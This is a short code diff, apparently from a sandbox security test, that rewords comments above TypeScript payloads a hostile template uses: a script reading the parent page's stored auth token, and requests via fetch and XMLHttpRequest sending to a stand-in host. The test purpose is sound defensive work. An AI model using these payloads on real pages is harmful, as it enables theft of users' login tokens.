@@ -1,4 +1,4 @@
-/** What a hostile template tries to read. Each is written into the document with what came of it. */
+/** Reads that a hostile template attempts; each writes its result into the document. */
 const reading = `<pre id="found"></pre><script>
   const tries = {
     token: () => parent.localStorage.getItem('auth.token'),
@@ -27,7 +27,7 @@ const rtc = (stun: string) =>
 const element = (name: string, properties: string) =>
   `document.body.append(Object.assign(document.createElement('${name}'), ${properties}))`;
 
-/** What it tries to send, one attempt a line. */
+/** Requests that it attempts, one for each line. */
 const sending = (at: string, stun: string): readonly string[] => [
   `fetch('http://${at}/fetch')`,
   `const x = new XMLHttpRequest(); x.open('GET', 'http://${at}/xhr'); x.send()`,
